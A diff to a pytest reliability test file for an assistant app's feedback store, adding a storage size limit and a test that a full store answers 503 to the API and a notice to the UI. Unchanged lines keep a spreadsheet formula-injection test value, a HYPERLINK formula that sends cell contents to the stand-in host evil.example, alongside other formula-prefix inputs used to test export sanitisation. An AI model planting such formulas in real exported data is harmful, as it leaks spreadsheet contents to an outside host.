@@ -19,21 +19,24 @@ import pytest
 from helpers import copy_index, gradio_call, put_rows
 
 from assistant.config import PROJECT_ROOT
+from assistant.feedback import FeedbackStore
 from assistant.load import server_process
 from assistant.spreadsheet import FORMULA_START
 
 pytestmark = pytest.mark.reliability
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"詳細")'
+MAX_MB = 0.3  # room for every other test's ratings; the size-limit test fills the rest, then frees it
 FORMULAS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
 
 
 @pytest.fixture(scope="module")
 def served(bot, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path]]:  # noqa: ANN001
-    """One app.py process on a private copy of the index, keeping ratings 30 days and believing X-Forwarded-For from
-    loopback (to stand for several clients); its URL and its feedback database."""
+    """One app.py process on a private copy of the index, keeping ratings 30 days and at most MAX_MB, believing
+    X-Forwarded-For from loopback (to stand for several clients); its URL and its feedback database."""
     tmp = tmp_path_factory.mktemp("fb-server")
     db = tmp / "fb.sqlite3"
-    env = {"ASSISTANT_FEEDBACK_DB": str(db), "ASSISTANT_FEEDBACK_DAYS": "30", "ASSISTANT_TRUSTED_PROXIES": '["127.0.0.1"]'}
+    env = {"ASSISTANT_FEEDBACK_DB": str(db), "ASSISTANT_FEEDBACK_DAYS": "30", "ASSISTANT_FEEDBACK_MAX_MB": str(MAX_MB),
+           "ASSISTANT_TRUSTED_PROXIES": '["127.0.0.1"]'}
     with server_process(copy_index(bot, tmp / "idx"), 1, **env) as (url, _pid):
         yield url, db
 
@@ -137,3 +140,26 @@ def test_one_rating_per_ui_turn_and_per_api_client_and_answer_the_last_one_wins(
     assert sorted(ui) == sorted([(q1, "👎", "出典が合っていない"), (q2, "👍", ""), (q1, "👍", "")])
     assert len(set(ids)) == 1 and other != ids[0]
     assert [r["評価"] for r in rows if r["質問"] == "API同一回答"] == ["👎", "👍"]
+
+
+def test_a_full_store_answers_503_to_the_api_and_a_notice_to_the_ui_until_there_is_room(served) -> None:  # noqa: ANN001
+    url, db = served
+    with httpx.Client(timeout=60) as c:
+        codes = []
+        for n in range(60):  # 24 KB each: the limit is reached long before
+            r = c.post(f"{url}/api/feedback", json={"question": f"容量テスト {n}", "answer": "長" * 8000, "rating": "up"})
+            codes.append(r.status_code)
+            if r.status_code != 200:
+                break
+        assert codes[-1] == 503 and set(codes[:-1]) == {200} and len(codes) > 3
+        assert r.json()["error"]["code"] == "FeedbackFullError" and "上限" in r.json()["error"]["message_ja"]
+        with sqlite3.connect(db) as raw:
+            assert FeedbackStore.used_bytes(raw) <= MAX_MB * 1024 * 1024 + 44_000  # past the limit by one row at most
+        session = uuid.uuid4().hex[:12]
+        gradio_call(c, url, "respond", ["容量テストの質問です", None], session)
+        ui = gradio_call(c, url, "rate", [json.dumps({"turn": 1, "rating": "up", "reason": ""}), None], session)
+        assert ui[-1]["success"] and any("上限" in (m.get("log") or "") for m in ui), ui  # a notice, not an error
+        with sqlite3.connect(db) as raw:
+            assert raw.execute("SELECT COUNT(*) FROM feedback WHERE question = '容量テストの質問です'").fetchone()[0] == 0
+            raw.execute("DELETE FROM feedback WHERE question LIKE '容量テスト %'")  # staff export and clear out
+        assert c.post(f"{url}/api/feedback", json={"question": "空いた後", "answer": "a", "rating": "up"}).status_code == 200
